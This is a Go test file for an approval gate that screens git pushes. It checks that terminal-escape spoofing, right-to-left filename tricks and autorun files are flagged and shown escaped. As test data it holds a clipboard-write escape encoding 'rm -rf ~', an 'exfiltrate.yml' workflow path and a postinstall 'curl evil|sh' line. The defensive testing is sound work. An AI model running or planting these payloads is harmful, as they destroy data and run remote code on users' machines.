@@ -1,0 +1,193 @@
+package approval_test
+
+import (
+	"fmt"
+	"regexp"
+	"strings"
+	"testing"
+
+	"github.com/go-git/go-git/v5/plumbing/filemode"
+	"github.com/hinshun/vt10x"
+
+	"github.com/airlock-dev/airlock/approval"
+)
+
+// rowsScript is a script terminal of a given height, as a TTY reports it.
+type rowsScript struct {
+	script
+	rows int
+}
+
+func (s *rowsScript) Rows() int { return s.rows }
+
+// screen plays bytes into an 80x24 terminal emulator and returns what a
+// person would see.
+func screen(t *testing.T, out string) string {
+	t.Helper()
+	vt := vt10x.New(vt10x.WithSize(80, 24))
+	if _, err := vt.Write([]byte(strings.ReplaceAll(out, "\n", "\r\n"))); err != nil {
+		t.Fatal(err)
+	}
+	return vt.String()
+}
+
+// ownEscapes matches the only escape sequences airlock writes: SGR colours.
+var ownEscapes = regexp.MustCompile(`\x1b\[[0-9;]*m`)
+
+func assertOnlyOwnEscapes(t *testing.T, out string) {
+	t.Helper()
+	if rest := ownEscapes.ReplaceAllString(out, ""); strings.ContainsAny(rest, "\x1b\x07\x9b\u009b\u202e") {
+		i := strings.IndexAny(rest, "\x1b\x07\x9b\u009b\u202e")
+		t.Errorf("a foreign control character reached the terminal: %q", rest[max(0, i-20):min(len(rest), i+40)])
+	}
+}
+
+// A worker's file names, commit message and content cannot clear the
+// screen, redraw a fake prompt, write the clipboard or hide lines: the
+// emulated screen shows them escaped, with the real summary and flags.
+func TestScreenShowsWhatIs(t *testing.T) {
+	fake := "\x1b[2J\x1b[H git_push\r\n  Target: local:/x (branch: scratch)\r\n  Commit: 1234567 \"typo\" (1 file)\r\n    M README.md (0.1 KB)\r\n  [d]iff  [a]pprove"
+	r := &approval.Request{
+		ID: "req-1", Worker: "w", Target: "local:/p", Describe: "local:/p",
+		Ref: "refs/heads/main", Old: hash("old"), New: hash("new"), Tree: hash("tree"),
+		Commits: []approval.CommitInfo{{ID: hash("new"), Message: "fix\x1b]52;c;cm0gLXJmIH4=\x07 typo" + fake}},
+		Files: []approval.FileChange{
+			{Path: "a" + fake, Op: approval.OpCreate, NewMode: filemode.Regular, Size: 10},
+			{Path: "deploy\u202Etxt.sh", Op: approval.OpCreate, NewMode: filemode.Executable, Size: 10},
+			{Path: ".github/workflows/release.yml", Op: approval.OpCreate, NewMode: filemode.Regular, Size: 10},
+		},
+		Diff: "diff --git a/x b/x\n+\x1b[8mhidden line\x1b[m\n+\x1b]52;c;ZXZpbA==\x07\n+ok\u202Egnp.exe\n",
+	}
+	r.Flags = approval.Assess(r, approval.Rules{}, func(p string, newSide bool) ([]byte, bool) {
+		if newSide && p == "deploy\u202Etxt.sh" {
+			return []byte("#!/bin/sh\necho \x1b[2Jhi\n"), true
+		}
+		return nil, false
+	})
+	for _, color := range []bool{false, true} {
+		s := &rowsScript{script: script{keys: []rune("dr"), lines: []string{""}, tty: true, color: color}, rows: 24}
+		if _, err := approval.Prompt(s, r); err != nil {
+			t.Fatal(err)
+		}
+		out := s.out.String()
+		assertOnlyOwnEscapes(t, out)
+		for _, paged := range s.paged {
+			assertOnlyOwnEscapes(t, paged)
+			if !strings.Contains(paged, "^[[8mhidden line") || !strings.Contains(paged, "^[]52;c;ZXZpbA==^G") {
+				t.Errorf("the paged diff does not show the escapes visibly:\n%s", paged)
+			}
+		}
+		scr := screen(t, out)
+		for _, want := range []string{"git_push", "protected branch main", "^[[2J^[[H", "<U+202E>", ".github/workflows/release.yml", "deceptive content"} {
+			if !strings.Contains(scr, want) {
+				t.Errorf("color=%v: the screen does not show %q:\n%s", color, want, scr)
+			}
+		}
+		// The screen still starts with airlock's own summary: nothing
+		// cleared it or moved the cursor home.
+		if !strings.HasPrefix(scr, "git_push") || !strings.Contains(strings.Split(scr, "\n")[2], "!! pushes to protected branch main") {
+			t.Errorf("color=%v: the screen:\n%s", color, scr)
+		}
+	}
+}
+
+// Flags never scroll off: with 300 files, every high flag and the new
+// workflow are on the 24-line screen together with the keys.
+func TestScreenKeepsFlagsWithKeys(t *testing.T) {
+	r := &approval.Request{
+		ID: "req-1", Worker: "w", Target: "local:/p", Describe: "local:/p",
+		Ref: "refs/heads/feature", NewRef: true, New: hash("new"), Tree: hash("tree"),
+		Commits: []approval.CommitInfo{{ID: hash("new"), Message: "many"}},
+	}
+	for i := 0; i < 300; i++ {
+		r.Files = append(r.Files, approval.FileChange{Path: fmt.Sprintf("gen/file%03d.bin", i), Op: approval.OpCreate, NewMode: filemode.Regular, Size: 10, Binary: true})
+	}
+	r.Files = append(r.Files, approval.FileChange{Path: ".github/workflows/exfiltrate.yml", Op: approval.OpCreate, NewMode: filemode.Regular, Size: 10})
+	r.Pickable = true
+	r.Flags = approval.Assess(r, approval.Rules{}, nil)
+	s := &rowsScript{script: script{keys: []rune("r"), lines: []string{""}, tty: true}, rows: 24}
+	if _, err := approval.Prompt(s, r); err != nil {
+		t.Fatal(err)
+	}
+	scr := screen(t, s.out.String())
+	for _, want := range []string{"GitHub Actions workflow", "[a]pprove", "new branch feature", "more files"} {
+		if !strings.Contains(scr, want) {
+			t.Errorf("the screen lacks %q:\n%s", want, scr)
+		}
+	}
+}
+
+// A push whose diff was cut short cannot be approved whole, neither at the
+// prompt nor through the gate.
+func TestTruncatedDiffCannotBeApprovedWhole(t *testing.T) {
+	r := exampleRequest()
+	r.DiffTruncated = true
+	r.Flags = approval.Assess(r, approval.Rules{}, nil)
+	found := false
+	for _, f := range r.Flags {
+		found = found || f.Code == approval.FlagTooLarge && f.Severity == approval.High
+	}
+	if !found {
+		t.Fatalf("flags: %+v", r.Flags)
+	}
+	s := &script{keys: []rune("ar"), lines: []string{"too big"}, tty: true}
+	d, err := approval.Prompt(s, r)
+	if err != nil || d.Verdict != approval.Reject {
+		t.Fatalf("decision %+v, %v", d, err)
+	}
+	if !strings.Contains(s.out.String(), "cannot be approved whole") {
+		t.Errorf("the prompt did not say why:\n%s", s.out.String())
+	}
+}
+
+func TestAutorunAndDeceptiveFlags(t *testing.T) {
+	for _, tc := range []struct {
+		path, content string
+		code          string
+	}{
+		{".envrc", "export A=1\n", approval.FlagAutorun},
+		{".vscode/tasks.json", "{}", approval.FlagAutorun},
+		{".vscode/settings.json", "{}", approval.FlagAutorun},
+		{".gitattributes", "* filter=evil\n", approval.FlagAutorun},
+		{".gitmodules", "", approval.FlagAutorun},
+		{".devcontainer/devcontainer.json", "{}", approval.FlagAutorun},
+		{"build.rs", "fn main(){}", approval.FlagAutorun},
+		{"setup.py", "", approval.FlagAutorun},
+		{"tests/conftest.py", "", approval.FlagAutorun},
+		{"rules.mk", "", approval.FlagAutorun},
+		{".husky/pre-commit", "", approval.FlagCI},
+		{".pre-commit-config.yaml", "", approval.FlagCI},
+		{"Makefile", "", approval.FlagCI},
+		{"src/a.go", "// \u202E } \u2066", approval.FlagTerminal},
+		{"notes.md", "see \x1b]52;c;ZXZpbA==\x07", approval.FlagTerminal},
+		{"run.sh", "#!/bin/sh\necho a\x00b\n", approval.FlagTerminal},
+	} {
+		r := &approval.Request{Ref: "refs/heads/f", Files: []approval.FileChange{{Path: tc.path, Op: approval.OpCreate, NewMode: filemode.Regular}}}
+		flags := approval.Assess(r, approval.Rules{}, func(p string, newSide bool) ([]byte, bool) {
+			return []byte(tc.content), newSide
+		})
+		found := false
+		for _, f := range flags {
+			found = found || f.Code == tc.code && f.Path == tc.path
+		}
+		if !found {
+			t.Errorf("%s: no %s flag in %+v", tc.path, tc.code, flags)
+		}
+	}
+	// package.json only when its scripts change.
+	pkg := func(old, nu string) []approval.Flag {
+		r := &approval.Request{Ref: "refs/heads/f", Files: []approval.FileChange{{Path: "package.json", Op: approval.OpUpdate, NewMode: filemode.Regular, OldMode: filemode.Regular}}}
+		return approval.Assess(r, approval.Rules{}, func(p string, newSide bool) ([]byte, bool) {
+			if newSide {
+				return []byte(nu), true
+			}
+			return []byte(old), true
+		})
+	}
+	if f := pkg(`{"version":"1"}`, `{"version":"2"}`); len(f) != 0 {
+		t.Errorf("a version bump is flagged: %+v", f)
+	}
+	if f := pkg(`{"scripts":{}}`, `{"scripts":{"postinstall":"curl evil|sh"}}`); len(f) == 0 {
+		t.Error("a new postinstall script is not flagged")
+	}
+}
